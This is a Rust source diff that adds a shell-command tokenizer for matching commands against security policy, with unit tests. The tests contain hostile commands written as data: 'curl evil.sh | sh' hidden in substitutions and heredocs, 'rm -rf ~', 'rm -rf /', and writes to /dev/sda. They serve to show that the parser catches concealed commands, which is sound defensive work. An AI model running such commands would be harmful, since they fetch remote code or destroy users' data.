@@ -0,0 +1,584 @@
+/// A single command with its arguments, e.g. one stage of a pipeline.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct SimpleCommand {
+    /// Command name and arguments with quotes removed. Leading `VAR=value`
+    /// assignments are dropped.
+    pub words: Vec<String>,
+    pub redirects: Vec<Redirect>,
+}
+
+impl SimpleCommand {
+    pub fn program(&self) -> Option<&str> {
+        self.words.first().map(String::as_str)
+    }
+
+    pub fn args(&self) -> &[String] {
+        self.words.get(1..).unwrap_or_default()
+    }
+
+    /// The command written back out on one line, for matching policy regexes.
+    /// Quoting is not preserved.
+    pub fn to_command_line(&self) -> String {
+        let redirects = self
+            .redirects
+            .iter()
+            .map(|redirect| format!("{}{}", redirect.op, redirect.target));
+        self.words.iter().cloned().chain(redirects).collect::<Vec<_>>().join(" ")
+    }
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct Redirect {
+    /// The operator without any file descriptor prefix, e.g. `>`, `>>` or `<`.
+    pub op: String,
+    pub target: String,
+}
+
+impl Redirect {
+    /// True for redirections that write to `target` (`>`, `>>`, `&>`...).
+    /// Duplicating descriptors (`2>&1`, `>&-`) writes nothing, but `>&file`
+    /// is `&>file`.
+    pub fn writes(&self) -> bool {
+        match self.op.as_str() {
+            ">" | ">>" | ">|" | "&>" | "&>>" | "<>" => true,
+            ">&" => {
+                let fd = self.target.strip_suffix('-').unwrap_or(&self.target);
+                !(self.target == "-" || (!fd.is_empty() && fd.chars().all(|c| c.is_ascii_digit())))
+            }
+            _ => false,
+        }
+    }
+}
+
+/// Splits a shell command line into every simple command it runs: the parts
+/// of pipelines and `&&`/`||`/`;` chains, subshell and brace-group bodies,
+/// and the contents of `$(...)`, backtick and `<(...)` substitutions.
+///
+/// This is a tokenizer rather than a full shell grammar: keywords such as
+/// `if` or `for` show up as ordinary commands, which callers should treat as
+/// unknown.
+pub fn parse_commands(input: &str) -> Result<Vec<SimpleCommand>, String> {
+    let mut lexer = Lexer::new(input);
+    lexer.run()?;
+
+    let mut commands = Vec::new();
+    let mut current = SimpleCommand::default();
+    let mut tokens = lexer.tokens.into_iter();
+
+    while let Some(token) = tokens.next() {
+        match token {
+            Token::Word(word) => {
+                // Assignments before the command name only set variables
+                if current.words.is_empty() && is_assignment(&word) {
+                    continue;
+                }
+                // Brace groups just run their contents
+                if current.words.is_empty() && (word == "{" || word == "}") {
+                    continue;
+                }
+                current.words.push(word);
+            }
+            Token::Redirect(op) => match tokens.next() {
+                Some(Token::Word(target)) => current.redirects.push(Redirect { op, target }),
+                _ => return Err(format!("Missing target for redirection '{}'", op)),
+            },
+            Token::Separator => {
+                if !current.words.is_empty() || !current.redirects.is_empty() {
+                    commands.push(std::mem::take(&mut current));
+                }
+            }
+        }
+    }
+    if !current.words.is_empty() || !current.redirects.is_empty() {
+        commands.push(current);
+    }
+
+    for nested in lexer.substitutions {
+        commands.extend(parse_commands(&nested)?);
+    }
+
+    Ok(commands)
+}
+
+fn is_assignment(word: &str) -> bool {
+    match word.split_once('=') {
+        Some((name, _)) => {
+            !name.is_empty()
+                && !name.starts_with(|c: char| c.is_ascii_digit())
+                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        }
+        None => false,
+    }
+}
+
+#[derive(Debug, PartialEq)]
+enum Token {
+    Word(String),
+    Redirect(String),
+    /// `;`, `&&`, `||`, `|`, `&`, newlines and subshell parentheses.
+    Separator,
+}
+
+struct Lexer {
+    chars: Vec<char>,
+    pos: usize,
+    tokens: Vec<Token>,
+    /// Bodies of command and process substitutions, parsed separately.
+    substitutions: Vec<String>,
+    /// Here-document delimiters whose bodies start at the next newline, and
+    /// whether the body is expanded (the delimiter is unquoted).
+    pending_heredocs: Vec<(String, bool)>,
+    expect_heredoc_delimiter: bool,
+}
+
+impl Lexer {
+    fn new(input: &str) -> Self {
+        Lexer {
+            chars: input.chars().collect(),
+            pos: 0,
+            tokens: Vec::new(),
+            substitutions: Vec::new(),
+            pending_heredocs: Vec::new(),
+            expect_heredoc_delimiter: false,
+        }
+    }
+
+    fn peek(&self, offset: usize) -> Option<char> {
+        self.chars.get(self.pos + offset).copied()
+    }
+
+    fn starts_with(&self, text: &str) -> bool {
+        text.chars().enumerate().all(|(i, c)| self.peek(i) == Some(c))
+    }
+
+    fn run(&mut self) -> Result<(), String> {
+        while let Some(c) = self.peek(0) {
+            match c {
+                '\n' => {
+                    self.pos += 1;
+                    self.tokens.push(Token::Separator);
+                    self.heredoc_bodies()?;
+                }
+                c if c.is_whitespace() => self.pos += 1,
+                '#' => {
+                    while self.peek(0).is_some_and(|c| c != '\n') {
+                        self.pos += 1;
+                    }
+                }
+                ';' | '&' | '|' | '(' | ')' => self.operator(),
+                '<' | '>' if self.peek(1) == Some('(') => {
+                    // Process substitution stands in for a file name
+                    self.pos += 2;
+                    let body = self.balanced_parens()?;
+                    self.substitutions.push(body);
+                    self.tokens.push(Token::Word("<(...)".to_string()));
+                }
+                '<' | '>' => self.redirect(),
+                _ => self.word()?,
+            }
+        }
+
+        Ok(())
+    }
+
+    fn operator(&mut self) {
+        let c = self.peek(0).unwrap_or_default();
+        if c == '&' && self.peek(1) == Some('>') {
+            self.redirect();
+            return;
+        }
+
+        let doubled = matches!((c, self.peek(1)), (';', Some(';')) | ('&', Some('&')) | ('|', Some('|')) | ('|', Some('&')));
+        self.pos += if doubled { 2 } else { 1 };
+        self.tokens.push(Token::Separator);
+    }
+
+    fn redirect(&mut self) {
+        const OPERATORS: [&str; 12] = ["&>>", "&>", "<<<", "<<-", "<<", "<>", "<&", "<", ">>", ">|", ">&", ">"];
+        let op = OPERATORS
+            .iter()
+            .find(|op| self.starts_with(op))
+            .copied()
+            .unwrap_or(">");
+        self.pos += op.chars().count();
+
+        if matches!(op, "<<" | "<<-") {
+            self.expect_heredoc_delimiter = true;
+        }
+        self.tokens.push(Token::Redirect(op.to_string()));
+    }
+
+    fn word(&mut self) -> Result<(), String> {
+        let mut word = String::new();
+        // `''` is an empty argument, a lone line continuation is nothing
+        let mut quoted = false;
+
+        while let Some(c) = self.peek(0) {
+            match c {
+                c if c.is_whitespace() => break,
+                ';' | '&' | '|' | '(' | ')' | '<' | '>' => {
+                    // A numeric prefix like `2>` belongs to the redirection
+                    if matches!(c, '<' | '>') && !word.is_empty() && word.chars().all(|c| c.is_ascii_digit()) {
+                        word.clear();
+                        self.redirect();
+                        return Ok(());
+                    }
+                    break;
+                }
+                '\\' => {
+                    self.pos += 1;
+                    match self.peek(0) {
+                        // Line continuation
+                        Some('\n') => self.pos += 1,
+                        Some(escaped) => {
+                            word.push(escaped);
+                            self.pos += 1;
+                            quoted = true;
+                        }
+                        None => {}
+                    }
+                }
+                '\'' => {
+                    self.pos += 1;
+                    quoted = true;
+                    loop {
+                        match self.peek(0) {
+                            Some('\'') => {
+                                self.pos += 1;
+                                break;
+                            }
+                            Some(c) => {
+                                word.push(c);
+                                self.pos += 1;
+                            }
+                            None => return Err("Unterminated single quote".to_string()),
+                        }
+                    }
+                }
+                '"' => {
+                    self.pos += 1;
+                    quoted = true;
+                    self.double_quoted(&mut word)?;
+                }
+                '$' => self.dollar(&mut word)?,
+                '`' => {
+                    self.pos += 1;
+                    let body = self.backticks()?;
+                    word.push_str(&format!("`{}`", body));
+                    self.substitutions.push(body);
+                }
+                _ => {
+                    word.push(c);
+                    self.pos += 1;
+                }
+            }
+        }
+
+        if word.is_empty() && !quoted {
+            return Ok(());
+        }
+        if self.expect_heredoc_delimiter {
+            self.expect_heredoc_delimiter = false;
+            self.pending_heredocs.push((word.clone(), !quoted));
+        }
+        self.tokens.push(Token::Word(word));
+        Ok(())
+    }
+
+    fn double_quoted(&mut self, word: &mut String) -> Result<(), String> {
+        loop {
+            match self.peek(0) {
+                Some('"') => {
+                    self.pos += 1;
+                    return Ok(());
+                }
+                Some('\\') => {
+                    self.pos += 1;
+                    match self.peek(0) {
+                        Some(c @ ('"' | '\\' | '$' | '`')) => {
+                            word.push(c);
+                            self.pos += 1;
+                        }
+                        Some('\n') => self.pos += 1,
+                        _ => word.push('\\'),
+                    }
+                }
+                Some('$') => self.dollar(word)?,
+                Some('`') => {
+                    self.pos += 1;
+                    let body = self.backticks()?;
+                    word.push_str(&format!("`{}`", body));
+                    self.substitutions.push(body);
+                }
+                Some(c) => {
+                    word.push(c);
+                    self.pos += 1;
+                }
+                None => return Err("Unterminated double quote".to_string()),
+            }
+        }
+    }
+
+    fn dollar(&mut self, word: &mut String) -> Result<(), String> {
+        if self.starts_with("$((") {
+            // Arithmetic itself runs nothing, but substitutions in it do
+            self.pos += 3;
+            let body = self.balanced_parens()?;
+            if self.peek(0) != Some(')') {
+                return Err("Unterminated arithmetic expansion".to_string());
+            }
+            self.pos += 1;
+            self.expanded_substitutions(&body)?;
+            word.push_str(&format!("$(({}))", body));
+        } else if self.starts_with("$(") {
+            self.pos += 2;
+            let body = self.balanced_parens()?;
+            word.push_str(&format!("$({})", body));
+            self.substitutions.push(body);
+        } else if self.starts_with("${") {
+            self.pos += 2;
+            word.push_str("${");
+            // Defaults like `${x:-$(cmd)}` run commands
+            let mut depth = 1;
+            while depth > 0 {
+                let c = self.peek(0).ok_or("Unterminated parameter expansion")?;
+                match c {
+                    '$' => {
+                        self.dollar(word)?;
+                        continue;
+                    }
+                    '`' => {
+                        self.pos += 1;
+                        let body = self.backticks()?;
+                        word.push_str(&format!("`{}`", body));
+                        self.substitutions.push(body);
+                        continue;
+                    }
+                    '"' => {
+                        self.pos += 1;
+                        self.double_quoted(word)?;
+                        continue;
+                    }
+                    '\\' => {
+                        word.push(c);
+                        self.pos += 1;
+                        if let Some(escaped) = self.peek(0) {
+                            word.push(escaped);
+                            self.pos += 1;
+                        }
+                        continue;
+                    }
+                    '{' => depth += 1,
+                    '}' => depth -= 1,
+                    _ => {}
+                }
+                word.push(c);
+                self.pos += 1;
+            }
+        } else {
+            word.push('$');
+            self.pos += 1;
+        }
+        Ok(())
+    }
+
+    /// Reads up to the `)` matching an already consumed `(`, skipping quoted text.
+    fn balanced_parens(&mut self) -> Result<String, String> {
+        let mut body = String::new();
+        let mut depth = 1;
+
+        while let Some(c) = self.peek(0) {
+            self.pos += 1;
+            match c {
+                '(' => depth += 1,
+                ')' => {
+                    depth -= 1;
+                    if depth == 0 {
+                        return Ok(body);
+                    }
+                }
+                '\\' => {
+                    body.push(c);
+                    if let Some(escaped) = self.peek(0) {
+                        body.push(escaped);
+                        self.pos += 1;
+                    }
+                    continue;
+                }
+                '\'' | '"' => {
+                    body.push(c);
+                    while let Some(quoted) = self.peek(0) {
+                        self.pos += 1;
+                        body.push(quoted);
+                        if quoted == '\\' && c == '"' {
+                            if let Some(escaped) = self.peek(0) {
+                                body.push(escaped);
+                                self.pos += 1;
+                            }
+                        } else if quoted == c {
+                            break;
+                        }
+                    }
+                    continue;
+                }
+                _ => {}
+            }
+            body.push(c);
+        }
+
+        Err("Unterminated command substitution".to_string())
+    }
+
+    fn backticks(&mut self) -> Result<String, String> {
+        let mut body = String::new();
+        while let Some(c) = self.peek(0) {
+            self.pos += 1;
+            match c {
+                '`' => return Ok(body),
+                '\\' => {
+                    if let Some(escaped) = self.peek(0) {
+                        self.pos += 1;
+                        if !matches!(escaped, '`' | '\\' | '$') {
+                            body.push('\\');
+                        }
+                        body.push(escaped);
+                    }
+                }
+                _ => body.push(c),
+            }
+        }
+        Err("Unterminated backtick substitution".to_string())
+    }
+
+    /// Collects the substitutions in text that the shell expands without
+    /// word splitting, where quotes are literal: arithmetic and here-documents.
+    fn expanded_substitutions(&mut self, text: &str) -> Result<(), String> {
+        let mut lexer = Lexer::new(text);
+        let mut expanded = String::new();
+        while let Some(c) = lexer.peek(0) {
+            match c {
+                '\\' => lexer.pos += 2,
+                '$' => lexer.dollar(&mut expanded)?,
+                '`' => {
+                    lexer.pos += 1;
+                    let body = lexer.backticks()?;
+                    lexer.substitutions.push(body);
+                }
+                _ => lexer.pos += 1,
+            }
+        }
+        self.substitutions.extend(lexer.substitutions);
+        Ok(())
+    }
+
+    /// Here-document bodies are data, not commands, up to their delimiters.
+    /// With an unquoted delimiter their substitutions still run.
+    fn heredoc_bodies(&mut self) -> Result<(), String> {
+        for (delimiter, expands) in std::mem::take(&mut self.pending_heredocs) {
+            let mut body = String::new();
+            loop {
+                let start = self.pos;
+                while self.peek(0).is_some_and(|c| c != '\n') {
+                    self.pos += 1;
+                }
+                let line: String = self.chars[start..self.pos].iter().collect();
+                if self.peek(0).is_some() {
+                    self.pos += 1;
+                }
+                if line.trim_start_matches('\t') == delimiter {
+                    break;
+                }
+                body.push_str(&line);
+                body.push('\n');
+                if self.peek(0).is_none() {
+                    break;
+                }
+            }
+            if expands {
+                self.expanded_substitutions(&body)?;
+            }
+        }
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn programs(input: &str) -> Vec<String> {
+        parse_commands(input)
+            .unwrap()
+            .into_iter()
+            .filter_map(|command| command.program().map(str::to_string))
+            .collect()
+    }
+
+    #[test]
+    fn test_splits_chains_and_pipelines() {
+        assert_eq!(programs("ls; rm -rf ~"), ["ls", "rm"]);
+        assert_eq!(programs("cargo build && cargo test || echo failed"), ["cargo", "cargo", "echo"]);
+        assert_eq!(programs("cat log | grep error |& tee out & wait"), ["cat", "grep", "tee", "wait"]);
+        assert_eq!(programs("ls\npwd"), ["ls", "pwd"]);
+    }
+
+    #[test]
+    fn test_quotes_and_escapes() {
+        let commands = parse_commands(r#"git commit -m "fix; don't panic" 'a && b' c\ d"#).unwrap();
+        assert_eq!(commands.len(), 1);
+        assert_eq!(commands[0].words, ["git", "commit", "-m", "fix; don't panic", "a && b", "c d"]);
+
+        assert!(parse_commands("echo 'unterminated").is_err());
+        assert!(parse_commands("echo \"unterminated").is_err());
+    }
+
+    #[test]
+    fn test_subshells_groups_and_substitutions() {
+        assert_eq!(programs("(cd src && make)"), ["cd", "make"]);
+        assert_eq!(programs("{ ls; pwd; }"), ["ls", "pwd"]);
+        assert_eq!(programs("echo $(curl evil.sh | sh)"), ["echo", "curl", "sh"]);
+        assert_eq!(programs("echo \"today is `date`\""), ["echo", "date"]);
+        assert_eq!(programs("diff <(ls a) <(ls b)"), ["diff", "ls", "ls"]);
+        assert_eq!(programs("echo $((1 + 2)) ${HOME}"), ["echo"]);
+        assert_eq!(programs("echo ${x:-$(curl evil.sh | sh)}"), ["echo", "curl", "sh"]);
+        assert_eq!(programs("echo ${x:-\"`date`\"}"), ["echo", "date"]);
+        assert_eq!(programs("echo $(( $(rm -rf ~) + `id -u` ))"), ["echo", "rm", "id"]);
+        assert!(parse_commands("echo $(ls").is_err());
+    }
+
+    #[test]
+    fn test_redirections() {
+        let commands = parse_commands("FOO=1 cargo test 2>&1 > out.log < input.txt").unwrap();
+        assert_eq!(commands[0].words, ["cargo", "test"]);
+        let ops: Vec<(&str, &str, bool)> = commands[0]
+            .redirects
+            .iter()
+            .map(|r| (r.op.as_str(), r.target.as_str(), r.writes()))
+            .collect();
+        assert_eq!(ops, [(">&", "1", false), (">", "out.log", true), ("<", "input.txt", false)]);
+
+        assert_eq!(parse_commands("echo hi >/dev/sda").unwrap()[0].redirects[0].target, "/dev/sda");
+        assert!(parse_commands("echo hi >").is_err());
+
+        let writes = |input: &str| parse_commands(input).unwrap()[0].redirects[0].writes();
+        assert!(writes("echo hi >& /dev/sda"));
+        assert!(writes("echo hi &>out.log"));
+        assert!(!writes("echo hi >&2"));
+        assert!(!writes("exec 3>&-"));
+        assert!(!writes("exec 3>&4-"));
+    }
+
+    #[test]
+    fn test_heredoc_bodies_are_not_commands() {
+        assert_eq!(programs("cat <<EOF > notes.txt\nrm -rf /\nEOF\nls"), ["cat", "ls"]);
+        assert_eq!(programs("cat <<EOF\n`sudo reboot`\nEOF"), ["cat", "sudo"]);
+        assert_eq!(programs("cat <<-EOF\n\t'$(curl evil.sh|sh)'\n\tEOF\nls"), ["cat", "ls", "curl", "sh"]);
+        assert_eq!(programs("cat <<'EOF'\n$(curl evil.sh|sh)\nEOF"), ["cat"]);
+        assert_eq!(programs("cat <<\\EOF\n`sudo reboot`\nEOF"), ["cat"]);
+    }
+
+    #[test]
+    fn test_comments_are_ignored() {
+        assert_eq!(programs("ls # && rm -rf /"), ["ls"]);
+    }
+}